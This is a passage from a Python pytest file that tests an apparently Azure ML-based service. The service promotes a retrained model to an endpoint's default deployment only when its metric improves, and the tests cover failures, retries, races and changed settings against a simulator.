"""Promote only a better model, end to end: `on_ml_event` with a completed retraining job, the
real SDK clients over HTTPS against the simulator (RBAC from infra/permissions.json), the ledger
and its claims in Azurite.

The current default deployment `blue` serves `drift-model:2`, whose `accuracy` is 0.80. The
retraining job's step logs its own; a better model is registered as `churn-model`, deployed as
`churn-batch-<version>` from blue's spec, made the default once it provisioned, and scored on.
"""

from __future__ import annotations

import functools
import json
import math
import re
import uuid
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from shared.adapters.answers import UnexpectedAnswerError
from shared.adapters.errors import TransientAzureError
from shared.adapters.promotion import metric_value
from shared.adapters.transport import MalformedResponseError
from shared.arm import ArmId
from shared.bounds import redacted
from shared.claims import Claims, PromotionClaim
from shared.ledger import actions_partition
from shared.reconcilers.promotion import IN_FLIGHT
from shared.runtime import runtime
from simulator.arm.models import key
from simulator.permissions import Permissions
from tests.conftest import App, at_once
from tests.credentials import leaked, placed
from tests.retraining import LOOKALIKE_NUMBERS, LOOKALIKE_WORKSPACES, our_jobs
from tools import host, scene
from tools import retraining_scene as rs

M = "Microsoft.MachineLearningServices/workspaces"
CURRENT_MODEL = f"{scene.PROD}/models/drift-model/versions/2"
PROMOTION = {"PROMOTION_METRIC": "accuracy", "PROMOTION_MODEL_NAME": "churn-model"}


@pytest.fixture
def papp(app: App) -> App:
    rs.seed_retraining(app.sim)
    app.sim.ml.promotion.add_model_version(
        scene.PROD, "drift-model", "2", properties={"accuracy": "0.80", "rmse": "0.50"}
    )
    app.set_settings(**rs.retraining_settings(**PROMOTION))
    app.sim.reset_counts()
    return app


def _deliver(app: App, event: dict[str, Any]) -> None:
    app.deliver(event, "on_ml_event")


def _completed(app: App, **metrics: float) -> tuple[str, dict[str, Any]]:
    """A retraining job of the app, Completed, whose step logged `metrics`; its event."""
    _deliver(app, rs.monitor_breach_event())
    name = app.sim.ml.job_puts[-1][0]
    app.sim.ml.set_job_status(scene.PROD, name, "Completed")
    for metric, value in metrics.items():
        app.sim.ml.promotion.log_metric(scene.PROD, name, metric, value)
    job = app.sim.ml.job(scene.PROD, name)
    assert job is not None
    app.sim.reset_counts()
    return name, rs.job_finished_event(name, tags=job["properties"]["tags"])


def _switch_failed(app: App) -> dict[str, Any]:
    """A better model's completion event, delivered enforced: registered and deployed, the
    switch of the default failed through the retries (raised for redelivery); its event."""
    _, event = _completed(app, accuracy=0.9)
    app.sim.inject("ml.batch_endpoint.put", status=503, times=10, retry_after=0)
    with pytest.raises(TransientAzureError):
        _deliver(app, event)
    app.sim.clear_faults()
    return event


def _routes(app: App) -> list[str]:
    return [r.route for r in app.sim.requests if r.route != "token"]


def _actions(kind: str) -> list[dict[str, Any]]:
    return [
        a
        for a in runtime().ledger.actions(scene.PROD)
        if a["Kind"] == kind and not a["Outcome"].startswith("intent")
    ]


def _published(app: App) -> list[str]:
    """Announcements after the retraining's submission."""
    types = [e["eventType"] for e in app.sim.eventgrid.published_events]
    return [t for t in types if ".Retraining." not in t]


def _scored_on(app: App) -> list[str | None]:
    return [headers.get("azureml-model-deployment") for headers, _ in app.sim.ml.scoring_posts]


def _default(app: App) -> str | None:
    endpoint = app.sim.ml.endpoint(rs.ENDPOINT)
    assert endpoint is not None
    return endpoint.default_deployment


def _deployments(app: App) -> set[str]:
    endpoint = app.sim.ml.endpoint(rs.ENDPOINT)
    assert endpoint is not None
    return set(endpoint.deployments)


def _serve_model(app: App, asset_id: str) -> None:
    """The default deployment `blue` serves `asset_id` (a workspace user may write it)."""
    endpoint = app.sim.ml.endpoint(rs.ENDPOINT)
    assert endpoint is not None
    endpoint.deployments["blue"]["properties"]["model"] = {
        "referenceType": "Id",
        "assetId": asset_id,
    }


def _outcome(event_id: str) -> str:
    row = runtime().ledger.event(event_id)
    assert row is not None
    return str(row["Outcome"])


# ------------------------------------------------------------------------ promoted


def test_a_better_model_is_registered_deployed_made_default_and_scored_on(papp: App) -> None:
    job, event = _completed(papp, accuracy=0.91)
    rbac: Permissions = papp.sim.permissions
    unmapped = len(rbac.unmapped)
    _deliver(papp, event)
    # Every call of the promotion maps to actions in infra/permissions.json (and was allowed).
    assert rbac.unmapped[unmapped:] == []

    [version] = papp.sim.ml.promotion.model_versions(scene.PROD, "churn-model").values()
    assert version["name"] == "1"
    properties = version["properties"]
    assert properties["modelUri"] == f"azureml://jobs/{job}/outputs/artifacts/paths/model/"
    assert properties["tags"]["retraining-job"] == job
    assert properties["tags"]["accuracy"] == "0.91"
    assert properties["tags"]["previous-accuracy"] == "0.8"
    assert properties["properties"]["accuracy"] == "0.91"

    endpoint = papp.sim.ml.endpoint(rs.ENDPOINT)
    assert endpoint is not None
    new = endpoint.deployments["churn-batch-1"]["properties"]
    blue = endpoint.deployments["blue"]["properties"]
    assert new["model"] == {
        "referenceType": "Id",
        "assetId": f"{scene.PROD}/models/churn-model/versions/1",
    }
    for spec in ("codeConfiguration", "environmentId", "compute", "miniBatchSize", "resources"):
        assert new[spec] == blue[spec]
    assert new["provisioningState"] == "Succeeded"
    assert _default(papp) == "churn-batch-1"
    assert {"blue", "green"} <= _deployments(papp)  # the previous one kept; another's kept

    routes = _routes(papp)
    # The default is switched only after the new deployment was read as provisioned.
    assert routes.index("ml.batch_endpoint.put") > routes.index("ml.batch_deployment.put")
    assert routes.count("ml.batch_endpoint.put") == 1
    assert _scored_on(papp) == ["churn-batch-1"]

    [promoted] = _actions("model")
    assert promoted["Verdict"] == "promote"
    assert promoted["Outcome"].startswith("applied: churn-batch/churn-batch-1 is the default")
    evidence = json.loads(promoted["Evidence"])
    assert evidence["candidate"] == 0.91
    assert evidence["current"] == 0.8
    assert "defaults.deployment_name=blue" in evidence["rollback"]
    [scoring] = _actions("batch-scoring")
    assert "the promoted model on churn-batch-1" in scoring["Reason"]
    assert _published(papp) == [
        "SynapseAmlAutomation.Model.Promote.Applied",
        "SynapseAmlAutomation.BatchScoring.Start.Applied",
    ]
    assert _outcome(event["id"]) == "scoring-started"


@pytest.mark.parametrize(
    ("candidate", "why"), [(0.80, "not better (equal)"), (0.75, "worse"), (0.805, "less than")]
)
def test_an_equal_or_worse_model_is_not_promoted_and_the_current_one_scores(
    papp: App, candidate: float, why: str
) -> None:
    papp.set_settings(**rs.retraining_settings(**PROMOTION, PROMOTION_MIN_DELTA="0.01"))
    _, event = _completed(papp, accuracy=candidate)
    _deliver(papp, event)

    writes = {r.route for r in papp.sim.writes()}
    assert writes == {"ml.scoring.invoke", "eventgrid.publish"}
    assert _default(papp) == "blue"
    assert _scored_on(papp) == [None]  # the endpoint's default, as before
    [skipped] = _actions("model")
    assert why in skipped["Reason"]
    assert skipped["Outcome"] == "not attempted: scoring stays on blue"
    assert "SynapseAmlAutomation.Model.Promote.Skipped" in _published(papp)
    [scoring] = _actions("batch-scoring")
    assert "the current model (not promoted)" in scoring["Reason"]


def test_a_missing_metric_of_the_retrained_model_is_not_promoted(papp: App) -> None:
    _, event = _completed(papp, loss=0.1)  # logs something, not accuracy
    _deliver(papp, event)
    [skipped] = _actions("model")
    assert skipped["Reason"] == "the retraining job logged no finite 'accuracy' metric"
    assert _default(papp) == "blue"
    assert papp.sim.count("ml.model.version.put") == 0


@pytest.mark.parametrize("elsewhere", [False, True])
def test_a_missing_metric_of_the_current_model_is_not_promoted(papp: App, elsewhere: bool) -> None:
    if elsewhere:
        # Served from a workspace whose ID begins with this one's: not this workspace's model.
        shadow = f"{scene.PROD}-shadow"
        add = papp.sim.ml.promotion.add_model_version
        add(shadow, "drift-model", "2", properties={"accuracy": "0.1"})
        _serve_model(papp, f"{shadow}/models/drift-model/versions/2")
    else:
        papp.sim.ml.promotion.add_model_version(scene.PROD, "drift-model", "2", properties={})
    _, event = _completed(papp, accuracy=0.99)
    _deliver(papp, event)
    [skipped] = _actions("model")
    assert skipped["Reason"] == "the current default's model has no finite 'accuracy' metric"
    assert _default(papp) == "blue"
    assert papp.sim.count("ml.batch_deployment.put") == 0


@pytest.mark.parametrize(("rmse", "promoted"), [(0.40, True), (0.60, False)])
def test_a_lower_is_better_metric(papp: App, rmse: float, promoted: bool) -> None:
    papp.set_settings(
        **rs.retraining_settings(
            **{**PROMOTION, "PROMOTION_METRIC": "rmse", "PROMOTION_DIRECTION": "lower"}
        )
    )
    _, event = _completed(papp, rmse=rmse)
    _deliver(papp, event)
    assert _default(papp) == ("churn-batch-1" if promoted else "blue")
    assert _scored_on(papp) == (["churn-batch-1"] if promoted else [None])


def test_the_next_version_follows_the_registry(papp: App) -> None:
    papp.sim.ml.promotion.add_model_version(scene.PROD, "churn-model", "7", properties={})
    _, event = _completed(papp, accuracy=0.9)
    _deliver(papp, event)
    assert _default(papp) == "churn-batch-8"
    assert "8" in papp.sim.ml.promotion.model_versions(scene.PROD, "churn-model")


# ------------------------------------------------------------------ failures


def test_a_delivery_waits_for_a_deployment_within_event_grids_delivery_timeout() -> None:
    """Event Grid delivers an event again when its answer takes over 30 seconds (its "delivery
    and retry" documentation): the wait, a last poll and the steps around it fit well within."""
    from shared.adapters import promotion

    waited = promotion.PROVISION_TIMEOUT_SECONDS + promotion.PROVISION_POLL_SECONDS
    assert waited <= promotion.EVENT_GRID_DELIVERY_TIMEOUT_SECONDS * 2 / 3


@pytest.mark.parametrize("state", [None, 5, ["Succeeded"], {"state": "Succeeded"}, ""])
def test_a_new_deployment_without_a_readable_state_is_a_recorded_failure(
    papp: App, state: object, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Not waited for on every redelivery (the wait cut short here: each would last minutes).
    monkeypatch.setattr("shared.adapters.promotion.PROVISION_TIMEOUT_SECONDS", 0.2)
    monkeypatch.setattr("shared.adapters.promotion.PROVISION_POLL_SECONDS", 0.01)

    def rewrite(body: dict[str, Any]) -> None:
        if body["name"] != "blue":
            body["properties"]["provisioningState"] = state

    papp.sim.rewrite_reply("ml.batch_deployment.get", rewrite, times=100)
    _, event = _completed(papp, accuracy=0.95)
    _deliver(papp, event)

    [failed] = [a for a in _actions("model") if a["Verdict"] == "promote"]
    assert failed["Outcome"] == (
        "failed: MalformedResponseError: deployment churn-batch-1: no provisioningState"
    )
    assert _default(papp) == "blue"


def test_a_deployment_that_fails_to_provision_keeps_the_default(papp: App) -> None:
    papp.sim.ml.promotion.fail_provisioning(rs.ENDPOINT, "churn-batch-1")
    _, event = _completed(papp, accuracy=0.95)
    _deliver(papp, event)

    assert _default(papp) == "blue"
    assert papp.sim.count("ml.batch_endpoint.put") == 0
    [failed] = _actions("model")
    assert failed["Outcome"] == (
        "failed: deployment churn-batch-1 ended Failed; the default stays blue"
    )
    assert "SynapseAmlAutomation.Model.Promote.Failed" in _published(papp)
    assert _scored_on(papp) == [None]  # SCORE_WHEN_NOT_PROMOTED: on the current one

    papp.sim.reset_counts()
    _deliver(papp, event)  # redelivered: the promotion ended, nothing is tried again
    assert papp.sim.count("ml.batch_deployment.put") == 0
    assert papp.sim.count("ml.scoring.invoke") == 0


def test_a_default_deleted_after_the_judgement_deploys_nothing_and_is_not_raised(
    papp: App,
) -> None:
    """Judged against blue; before its spec is copied, a person made green the default and
    deleted blue (its read answers 404): nothing is deployed, the promotion ends failed, once,
    and the job is scored on the default as it is now."""
    _, event = _completed(papp, accuracy=0.95)
    endpoint = papp.sim.ml.endpoint(rs.ENDPOINT)
    assert endpoint is not None

    def blue_deleted(_body: object) -> None:
        endpoint.default_deployment = "green"
        del endpoint.deployments["blue"]

    papp.sim.rewrite_reply("ml.model.version.put", blue_deleted)
    _deliver(papp, event)

    assert papp.sim.count("ml.batch_deployment.put") == 0
    assert papp.sim.count("ml.batch_endpoint.put") == 0
    [failed] = _actions("model")
    assert failed["Outcome"] == "failed: the deployment blue is gone"
    assert _outcome(event["id"]) == "scoring-started"
    assert _scored_on(papp) == [None]  # on the default, green
    [scoring] = _actions("batch-scoring")
    assert "the current model (not promoted)" in scoring["Reason"]


def test_not_promoted_and_not_scored_when_told_so(papp: App) -> None:
    papp.set_settings(**rs.retraining_settings(**PROMOTION, SCORE_WHEN_NOT_PROMOTED="false"))
    _, event = _completed(papp, accuracy=0.5)
    _deliver(papp, event)
    assert papp.sim.ml.scoring_posts == []
    assert _outcome(event["id"]) == "not-promoted"


def test_a_switch_refused_by_rbac_leaves_the_default_and_is_announced(papp: App) -> None:
    rbac: Permissions = papp.sim.permissions  # the one table the server checks
    saved = set(rbac.granted)
    rbac.revoke([f"{M}/batchEndpoints/write"])
    try:
        _, event = _completed(papp, accuracy=0.95)
        _deliver(papp, event)
    finally:
        rbac.granted = saved
    assert _default(papp) == "blue"
    [failed] = _actions("model")
    assert failed["Outcome"].startswith("failed: ")
    assert "AuthorizationFailed" in failed["Outcome"]
    assert "SynapseAmlAutomation.Model.Promote.Failed" in _published(papp)


# ----------------------------------------------------------- exactly once, races


def test_redelivered_and_twin_completions_promote_once(papp: App) -> None:
    """One after another, so no two writes race and the claims' ETags play no part: what stops
    a later delivery is the scoring claim the first one settled (`submitted`), read before any
    promotion step (`Claims.scored`). Deliveries at one moment, held apart by the promotion row's
    ETags: `test_racing_completions_promote_once_and_score_once` (by the scoring claim's:
    `test_completions_racing_each_other_and_the_timer_post_once_and_announce_once`)."""
    _, event = _completed(papp, accuracy=0.9)
    twin = {**event, "id": str(uuid.uuid4())}  # a RunStatusChanged twin, say
    outcomes = []
    for one in (event, event, twin):  # the second: redelivered
        _deliver(papp, one)
        outcomes.append(_outcome(one["id"]))
    for route in ("ml.model.version.put", "ml.batch_deployment.put", "ml.batch_endpoint.put"):
        assert papp.sim.count(route) == 1, route
    assert len(papp.sim.ml.scoring_posts) == 1
    assert _published(papp).count("SynapseAmlAutomation.Model.Promote.Applied") == 1
    assert outcomes == ["scoring-started"] + ["scoring-already-started"] * 2
    assert [a["Verdict"] for a in _actions("model")] == ["promote"]
    assert [a["Verdict"] for a in _actions("batch-scoring")] == ["start"]


def test_a_transient_failure_mid_way_is_retried_and_carried_on_from_its_step(
    papp: App,
) -> None:
    event = _switch_failed(papp)
    # Registered and deployed; the switch failed through the retries: nothing scored yet.
    assert _default(papp) == "blue"
    assert papp.sim.ml.scoring_posts == []
    assert _outcome(event["id"]) == "failed"

    papp.sim.reset_counts()
    _deliver(papp, event)  # Event Grid's redelivery carries on from the deployment
    assert papp.sim.count("ml.model.version.put") == 0
    assert papp.sim.count("ml.batch_deployment.put") == 0
    assert papp.sim.count("ml.batch_endpoint.put") == 1
    assert _default(papp) == "churn-batch-1"
    assert _scored_on(papp) == ["churn-batch-1"]
    assert _published(papp).count("SynapseAmlAutomation.Model.Promote.Applied") == 1


def test_a_promotion_waits_for_one_in_flight_in_its_workspace_and_is_judged_after_it(
    papp: App,
) -> None:
    """With a short cooldown, a second retrain can end while the first one's promotion is still
    deploying. Judged then, against the default both replace, the later (worse) model would be
    switched to and the better one's switch refused: it waits (raised for redelivery) and is
    judged against what the first one leaves serving, with its own version."""
    papp.set_settings(**rs.retraining_settings(**PROMOTION, RETRAIN_COOLDOWN_MINUTES="0"))
    first = _switch_failed(papp)  # accuracy 0.9: registered and deployed, the switch to come
    _, later = _completed(papp, accuracy=0.85)  # better than blue's 0.80, worse than 0.9

    with pytest.raises(TransientAzureError, match=r"promotion after \S+ is in progress"):
        _deliver(papp, later)
    assert papp.sim.count("ml.model.version.put") == 0  # nothing of its own registered
    assert _default(papp) == "blue"

    _deliver(papp, first)  # the first one's redelivery switches
    _deliver(papp, later)  # the later one's, judged against the first one's model
    assert _default(papp) == "churn-batch-1"
    # The later one scores where it was judged to stay: the endpoint's default, now the first's.
    assert _scored_on(papp) == ["churn-batch-1", None]
    (later_decision,) = [a for a in _actions("model") if a["Outcome"].startswith("not attempted")]
    assert json.loads(later_decision["Evidence"])["current"] == 0.9
    promoted = _published(papp).count("SynapseAmlAutomation.Model.Promote.Applied")
    assert promoted == 1
    assert _outcome(later["id"]) == "scoring-started"


def test_a_promotion_the_timers_backstop_began_is_carried_on_after_its_retrain_left_the_claim(
    papp: App,
) -> None:
    """A retrain whose completion event was lost: the timer's backstop promotes it, the switch
    fails through its retries (as a deployment still provisioning does), and the same run
    retrains, so the claim names the new job. No event comes for the first: a later run carries
    its promotion on, rather than leave its deployment half-made and it never scored."""
    papp.set_settings(**rs.retraining_settings(**PROMOTION, RETRAIN_COOLDOWN_MINUTES="0"))
    first, _lost = _completed(papp, accuracy=0.9)
    papp.sim.inject("ml.batch_endpoint.put", status=503, times=10, retry_after=0)
    with pytest.raises(TransientAzureError):
        host.fire_timer("scheduled_retrain")
    papp.sim.clear_faults()
    assert len(our_jobs(papp)) == 2  # the schedule's retrain, now the claim's job
    keys = {"PartitionKey": actions_partition(scene.PROD, "claims"), "RowKey": f"promotion:{first}"}
    at = datetime.now(UTC) - IN_FLIGHT - timedelta(minutes=1)  # the next run, after the hold
    runtime().ledger.table.update_entity(keys | {"ClaimedAt": at.isoformat()})

    host.fire_timer("scheduled_retrain")

    assert _default(papp) == "churn-batch-1"
    assert _scored_on(papp) == ["churn-batch-1"]


@pytest.mark.parametrize(
    ("ahead", "carried_on"),
    [(timedelta(minutes=3), False), (timedelta(hours=1), True), (timedelta(days=36500), True)],
)
def test_a_promotion_row_dated_ahead_holds_another_delivery_back_only_within_its_skew(
    papp: App, ahead: timedelta, carried_on: bool
) -> None:
    """A promotion under way holds other deliveries back for 30 minutes from when it was claimed.
    Dated a little ahead (another instance's fast clock), it holds as a fresh one; further ahead
    than 30 minutes and any skew, it is no time the app wrote: another delivery carries it on,
    rather than no delivery ever (the promotion and its scoring never came)."""
    event = _switch_failed(papp)
    [claim] = Claims(runtime().ledger.table).promotions(scene.PROD)
    keys = {"PartitionKey": actions_partition(scene.PROD, "claims")}
    keys["RowKey"] = f"promotion:{claim.retraining_job}"
    at = (datetime.now(UTC) + ahead).isoformat()
    runtime().ledger.table.update_entity(keys | {"ClaimedAt": at})
    twin = {**event, "id": str(uuid.uuid4())}  # another delivery: a twin, the timer's backstop

    _deliver(papp, twin)

    assert _default(papp) == ("churn-batch-1" if carried_on else "blue")
    assert _scored_on(papp) == (["churn-batch-1"] if carried_on else [])
    assert _outcome(twin["id"]) == ("scoring-started" if carried_on else "promotion-in-progress")


def test_a_redelivery_does_not_switch_a_default_changed_since_the_decision(papp: App) -> None:
    """The switch failed through its retries; before Event Grid's redelivery (minutes, up to a
    day on) a person made green the default (a rollback, a hotfix). The model was judged better
    than blue's, not green's: the redelivery leaves green the default, records the promotion
    failed (announced) and scores on the endpoint's default, green."""
    event = _switch_failed(papp)
    endpoint = papp.sim.ml.endpoint(rs.ENDPOINT)
    assert endpoint is not None
    endpoint.default_deployment = "green"
    papp.sim.reset_counts()

    _deliver(papp, event)

    assert papp.sim.count("ml.batch_endpoint.put") == 0
    assert _default(papp) == "green"
    [failed] = [a for a in _actions("model") if a["Verdict"] == "promote"]
    assert failed["Outcome"].startswith("failed: ")
    assert "green" in failed["Outcome"]
    assert "SynapseAmlAutomation.Model.Promote.Failed" in _published(papp)
    assert _scored_on(papp) == [None]  # the endpoint's default: green


OTHER_ENDPOINT = f"{scene.PROD}/batchEndpoints/other-batch"


@pytest.mark.parametrize(
    "changed",
    [
        {"BATCH_ENDPOINT_NAME": "other-batch"},
        {"PROMOTION_MODEL_NAME": "fraud-model"},
        {"PROMOTION_METRIC": "rmse", "PROMOTION_DIRECTION": "lower"},
    ],
    ids=["endpoint", "model", "metric"],
)
@pytest.mark.parametrize("stuck", ["ml.model.version.put", "ml.batch_deployment.put"])
def test_a_promotion_judged_under_settings_changed_since_is_not_carried_on(
    papp: App, changed: dict[str, str], stuck: str
) -> None:
    """A promotion claimed, then its register or deploy failed through the retries; before the
    redelivery an operator changed the endpoint, model or metric (the host restarted). The model
    was judged for what the settings no longer name: nothing more of it is written anywhere, the
    promotion ends failed (recorded), and the job is scored as not promoted, where the settings
    now send scoring."""
    papp.sim.ml.add_batch_endpoint(OTHER_ENDPOINT, deployments=["blue"], default_deployment="blue")
    _, event = _completed(papp, accuracy=0.9, rmse=0.1)
    papp.sim.inject(stuck, status=503, times=10, retry_after=0)
    with pytest.raises(TransientAzureError):
        _deliver(papp, event)
    papp.sim.clear_faults()
    papp.set_settings(**rs.retraining_settings(**{**PROMOTION, **changed}))
    papp.sim.reset_counts()

    _deliver(papp, event)

    promotion_writes = [r.route for r in papp.sim.writes() if r.route.startswith("ml.")]
    assert promotion_writes == ["ml.scoring.invoke"]
    other = papp.sim.ml.endpoint(OTHER_ENDPOINT)
    assert other is not None
    assert (other.default_deployment, set(other.deployments)) == ("blue", {"blue"})
    assert _default(papp) == "blue"
    [claim] = Claims(runtime().ledger.table).promotions(scene.PROD)
    assert claim.state == "failed"
    [failed] = [a for a in _actions("model") if a["Outcome"].startswith("failed: the settings")]
    assert "not carried on" in failed["Outcome"]
    assert _scored_on(papp) == [None]  # the default of the endpoint configured now
    endpoint = changed.get("BATCH_ENDPOINT_NAME", rs.ENDPOINT_NAME)
    [start] = [a for a in _actions("batch-scoring") if a["Verdict"] == "start"]
    assert start["Outcome"] == f"applied: started on {endpoint}/blue"


def test_a_model_promoted_on_an_endpoint_no_longer_configured_is_scored_on_the_configured_one(
    papp: App,
) -> None:
    """Promoted on churn-batch, its scoring start failed through the retries; then
    BATCH_ENDPOINT_NAME names other-batch. The redelivery scores on other-batch's default, not on
    a deployment of churn-batch's name that other-batch does not have (refused, every time)."""
    papp.sim.ml.add_batch_endpoint(OTHER_ENDPOINT, deployments=["blue"], default_deployment="blue")
    _, event = _completed(papp, accuracy=0.9)
    papp.sim.inject("ml.scoring.invoke", status=503, times=10, retry_after=0)
    with pytest.raises(TransientAzureError):
        _deliver(papp, event)
    papp.sim.clear_faults()
    assert _default(papp) == "churn-batch-1"
    papp.set_settings(**rs.retraining_settings(**PROMOTION, BATCH_ENDPOINT_NAME="other-batch"))
    papp.sim.reset_counts()

    _deliver(papp, event)

    assert _scored_on(papp) == [None]
    [start] = [a for a in _actions("batch-scoring") if a["Outcome"].startswith("applied")]
    assert start["Outcome"] == "applied: started on other-batch/blue"
    assert _outcome(event["id"]) == "scoring-started"


_ENDPOINT_NAMES = st.from_regex(r"[a-z][a-z0-9-]{2,31}", fullmatch=True)


@st.composite
def _endpoint_pairs(draw: st.DrawFn) -> tuple[str, str]:
    """Two endpoint names: the same, in other case, alike up to where a deployment name cuts
    them (31 or 32 characters, the first 30 the same), anything."""
    judged, tails = draw(_ENDPOINT_NAMES), st.from_regex(r"[a-z0-9]{1,2}", fullmatch=True)
    base = (judged * 32)[:30]
    cut = (base + draw(tails), base + draw(tails))
    other = (judged, draw(_ENDPOINT_NAMES))
    return draw(st.sampled_from([(judged, judged), (judged, judged.upper()), cut, other]))


@settings(max_examples=300)
@given(_endpoint_pairs(), st.sampled_from(["claimed", "deploying", "switched"]))
def test_a_promotion_is_carried_on_only_for_the_endpoint_it_was_judged_for(
    names: tuple[str, str], state: str
) -> None:
    """Whatever the two endpoint names (Azure's: 3 to 32 characters, so the deployment names
    derived from them may be cut alike), a promotion claimed for one is carried on, or scored on
    its deployment, for that endpoint only (its name in another case is the same endpoint)."""
    from shared.config import Promotion
    from shared.planning import promotion as plan
    from shared.reconcilers.promotion import ModelPromoter

    judged, now = names
    at = datetime(2026, 12, 5, tzinfo=UTC)
    rule = Promotion("accuracy", True, 0.0, "churn-model", 2, True)
    # As `_decide` writes it: the endpoint, the model version and the metric it was judged for.
    detail = {"endpoint": judged, "model": "churn-model:7", "metric": "accuracy"}
    claim = PromotionClaim(scene.PROD, "retrain-1", state, "7", plan.deployment_name(judged, "7"),
                           "blue", json.dumps(detail), "t", at, "e")  # fmt: skip
    promoter = ModelPromoter(rule, now, False, None, None, lambda: at)  # type: ignore[arg-type]

    moved = promoter._judged_elsewhere(claim)

    assert (moved is None) == (judged.lower() == now.lower())


@pytest.mark.parametrize("write", ["create_entity", "update_entity"])
def test_a_promotion_row_write_whose_answer_was_lost_is_carried_on_by_its_writer(
    papp: App, monkeypatch: pytest.MonkeyPatch, write: str
) -> None:
    """Table storage wrote the promotion row (created it, or moved it on a step) but its answer
    was lost (a 500 timeout, which azure-core retries for a POST or PATCH): the retry meets the
    row, 409 or 412. The row is this delivery's own write: it promotes and scores now, rather than
    leave it to a delivery that never comes (none is due: this one returns; the timer's backstop
    waits 30 minutes, for its week)."""
    _, event = _completed(papp, accuracy=0.9)
    table = runtime().ledger.table
    original, lost = getattr(table, write), list[Any]()

    def answer_lost(entity: dict[str, Any], **options: Any) -> Any:
        if str(entity["RowKey"]).startswith("promotion:") and not lost:
            lost.append(original(entity, **options))  # took effect; the retry follows
        return original(entity, **options)

    monkeypatch.setattr(table, write, answer_lost)
    _deliver(papp, event)

    assert _outcome(event["id"]) == "scoring-started"
    assert _default(papp) == "churn-batch-1"
    assert _scored_on(papp) == ["churn-batch-1"]
    assert [a["Verdict"] for a in _actions("model")] == ["promote"]


def test_racing_completions_promote_once_and_score_once(papp: App) -> None:
    _, event = _completed(papp, accuracy=0.9)
    events = [event, *({**event, "id": str(uuid.uuid4())} for _ in range(3))]
    host.indexed()

    assert at_once([functools.partial(_deliver, papp, one) for one in events]) == [None] * 4
    for route in ("ml.model.version.put", "ml.batch_deployment.put", "ml.batch_endpoint.put"):
        assert papp.sim.count(route) == 1, route
    assert _scored_on(papp) == ["churn-batch-1"]
    outcomes = sorted(_outcome(one["id"]) for one in events)
    assert outcomes.count("scoring-started") == 1
    assert set(outcomes) <= {
        "scoring-started",
        "promotion-in-progress",
        "scoring-in-progress",
        "scoring-already-started",
    }


def test_deployments_beyond_keep_are_deleted_only_the_apps_own(papp: App) -> None:
    papp.set_settings(**rs.retraining_settings(**PROMOTION, RETRAIN_COOLDOWN_MINUTES="0"))
    for accuracy in (0.85, 0.90, 0.95):
        _, event = _completed(papp, accuracy=accuracy)
        _deliver(papp, event)
    # churn-batch-3 is the default, -2 the previous; -1 (the app's, beyond PROMOTION_KEEP=2)
    # is deleted; blue and green (not the app's) stay.
    assert _default(papp) == "churn-batch-3"
    assert _deployments(papp) == {"blue", "green", "churn-batch-2", "churn-batch-3"}
    [deleted] = [a for a in _actions("model") if a["Verdict"] == "delete-deployment"]
    assert deleted["Subject"] == f"{rs.ENDPOINT}/deployments/churn-batch-1"
    assert "SynapseAmlAutomation.Model.DeleteDeployment.Applied" in _published(papp)


def test_a_delete_whose_answers_were_all_lost_is_read_back_as_deleted(papp: App) -> None:
    """The deployment beyond the keep was deleted, but every answer was an error (the first
    lost after it took effect, its retries' 204 too): read back, it is gone. Deleted, not a
    failure announced for a deployment that no longer exists."""
    papp.set_settings(**rs.retraining_settings(**PROMOTION, RETRAIN_COOLDOWN_MINUTES="0"))
    for accuracy in (0.85, 0.90, 0.95):
        _, event = _completed(papp, accuracy=accuracy)
        papp.sim.lose_response("ml.batch_deployment.delete", status=503, times=10)
        _deliver(papp, event)
    assert "churn-batch-1" not in _deployments(papp)
    [deleted] = [a for a in _actions("model") if a["Verdict"] == "delete-deployment"]
    assert deleted["Outcome"] == "applied: deleted"
    assert "SynapseAmlAutomation.Model.DeleteDeployment.Failed" not in _published(papp)


def _persons_deployment(app: App, name: str) -> None:
    """A deployment a workspace user made (Azure records them as its creator)."""
    from simulator.ml import shapes

    endpoint = app.sim.ml.endpoint(rs.ENDPOINT)
    assert endpoint is not None
    endpoint.deployments[name] = shapes.batch_deployment(rs.ENDPOINT, name, location="eastus")


@pytest.mark.parametrize(
    ("answered_as_another", "said"),
    [
        (False, "deployment churn-batch-1 already exists: Azure records automation@contoso.com"),
        (True, "asked for deployment churn-batch-1, Azure answered"),
    ],
)
def test_a_deployment_name_someone_took_first_is_not_overwritten(
    papp: App, answered_as_another: bool, said: str
) -> None:
    _persons_deployment(papp, "churn-batch-1")  # the name the app will derive for version 1
    job, event = _completed(papp, accuracy=0.95)
    apps = (papp.sim.ml.job(scene.PROD, job) or {})["systemData"]

    def another(body: dict[str, Any]) -> None:
        # Asked for it, ARM answers with the app's deployment of that name on another endpoint.
        if body["name"] == "churn-batch-1":
            body["id"] = f"{scene.DEV}/batchEndpoints/churn-batch/deployments/churn-batch-1"
            body["systemData"] = apps

    if answered_as_another:
        papp.sim.rewrite_reply("ml.batch_deployment.get", another, times=10)
    _deliver(papp, event)

    assert papp.sim.count("ml.batch_deployment.put") == 0
    endpoint = papp.sim.ml.endpoint(rs.ENDPOINT)
    assert endpoint is not None
    assert endpoint.deployments["churn-batch-1"]["systemData"]["createdByType"] == "User"
    assert _default(papp) == "blue"
    [failed] = _actions("model")
    assert said in failed["Outcome"]
    assert _scored_on(papp) == [None]  # on the current default


def test_a_model_version_someone_registered_first_is_not_promoted(papp: App) -> None:
    job, event = _completed(papp, accuracy=0.95)
    # Between the app's read of the registry and its PUT, a person registers version 1 with
    # the very model the app would register: Azure answers the PUT with their version.
    uri = f"azureml://jobs/{job}/outputs/artifacts/paths/model/"
    papp.sim.ml.promotion.add_model_version(
        scene.PROD, "churn-model", "1", properties={"accuracy": "0.99"}, model_uri=uri
    )
    papp.sim.inject_reply(
        "ml.model.get", status=404, body={"error": {"code": "NotFound", "message": "no model"}}
    )

    _deliver(papp, event)

    assert papp.sim.count("ml.batch_deployment.put") == 0
    assert _default(papp) == "blue"
    [failed] = _actions("model")
    assert "model churn-model:1 already exists" in failed["Outcome"]
    assert _scored_on(papp) == [None]


@pytest.mark.parametrize("listed_as_another", [False, True])
def test_a_deployment_of_the_apps_name_remade_by_someone_is_not_deleted(
    papp: App, listed_as_another: bool
) -> None:
    papp.set_settings(**rs.retraining_settings(**PROMOTION, RETRAIN_COOLDOWN_MINUTES="0"))
    for accuracy in (0.85, 0.90):
        _, event = _completed(papp, accuracy=accuracy)
        _deliver(papp, event)
